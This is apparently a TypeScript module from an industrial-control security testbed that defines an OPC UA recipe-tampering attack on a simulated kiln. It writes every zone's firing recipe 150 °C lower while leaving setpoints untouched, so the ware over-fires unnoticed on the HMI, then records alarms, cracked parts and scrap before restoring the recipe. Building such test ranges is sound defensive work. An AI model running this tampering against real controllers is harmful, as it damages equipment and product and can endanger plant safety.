/**
 * Recipe tampering on OPC UA: the kiln's firing recipe (the temperature each zone's ware
 * calls for, which the twin fires and judges the ware against) replaced in one write per zone
 * by another body's: every zone 150 °C lower. The setpoints stay, so the HMI's setpoint
 * trends look unchanged, but the ware now fires far over its recipe: the over-temperature
 * alarm, then cracked parts and scrap the observer counts.
 *
 * ATT&CK for ICS: a recipe is a parameter set, not program logic or a controller task, so
 * the technique is Modify Parameter (not Modify Program, Program Download or Modify
 * Controller Tasking: nothing the controller runs is changed).
 */
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { before, cracked, movedTags, needTag, now, restore, trail, watchForCracks } from './common.ts';

/** how far below the recipe in use the tampered one is [°C] */
const LOWER = 150;


export const opcuaRecipe: Attack = {
  id: 'opcua-recipe',
  title: `OPC UA recipe tampering: the kiln's firing recipe replaced (every zone ${LOWER} °C lower), the ware fires over it and cracks`,
  techniques: [T.modifyParameter],
  face: 'opcua',
  preconditions: ['a session that may write the recipe (anonymous under a weak profile, or an operator\'s account)', 'the kiln\'s node ids (opcua-browse)'],
  steps: [
    'open a session; read the zones in use and the recipe temperatures',
    `write every zone's recipe temperature ${LOWER} °C lower (one write per zone, as a recipe download does)`,
    'watch for the over-temperature alarm and cracked parts',
  ],
  expectedImpact: `the ware fires ${LOWER} °C over its (tampered) recipe with the setpoints untouched: the over-temperature alarm, cracked and scrapped parts`,
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { nodeOf, openSession, readNumber, reason, writeDouble } = await import('../clients/opcua.ts');
    const evidence: string[] = [];
    const was = await before(ctx);
    needTag(was, 'recipe1', this.id, 'kiln');
    const kpis0 = ctx.observer === null ? null : (await ctx.observer.view()).kpis;
    const f = await openSession(ctx, evidence);
    const written: Record<string, [number, number]> = {};
    let refusedWith: string | null = f === null ? 'no session' : null;
    if (f !== null) {
      try {
        const zones = Math.max(1, Math.min(4, (await readNumber(f, nodeOf(f, `${ctx.station}.zones`))) ?? 1));
        for (let z = 1; z <= zones && refusedWith === null; z++) {
          const field = `recipe${z}`;
          const from = await readNumber(f, nodeOf(f, `${ctx.station}.${field}`));
          if (from === null) continue;
          const to = Math.max(0, from - LOWER);
          const status = await writeDouble(f, nodeOf(f, `${ctx.station}.${field}`), to);
          evidence.push(`OPC UA: write ${ctx.station}.${field} ${from} → ${to} °C: ${status}`);
          if (status === 'Good') written[field] = [from, to];
          else refusedWith = `write ${field} → ${status}`;
        }
      } catch (e) {
        refusedWith = reason(e);
        evidence.push(`OPC UA: ${refusedWith}`);
      } finally {
        await f.close();
      }
    }
    // watch the line: the alarm, and ware coming out cracked
    let evs = await watchForCracks(ctx, Object.keys(written).length > 0);
    const after = await now(ctx);
    const kpis1 = ctx.observer === null ? null : (await ctx.observer.view()).kpis;
    evs = await trail(ctx, evidence, refusedWith !== null);
    const recipe = movedTags(was, after, ['recipe1', 'recipe2', 'recipe3', 'recipe4']);
    const setpointsMoved = Object.keys(movedTags(was, after, ['sp1', 'sp2', 'sp3', 'sp4'])).length > 0;
    const changed = after !== null ? Object.keys(recipe).length > 0 : Object.keys(written).length > 0;
    return {
      outcome: changed ? 'succeeded' : 'blocked',
      evidence,
      impact: {
        recipe: after !== null ? recipe : written,
        setpointsMoved,
        overTempAlarm: evs.some((e) => e.type === 'alarm' && e.station === ctx.station && e.data.code === 'OVERTEMP'),
        crackedParts: cracked(evs),
        scrappedDuring: kpis0 !== null && kpis1 !== null ? kpis1.scrapped - kpis0.scrapped : null,
      },
    };
  },
  cleanup: restore,
};
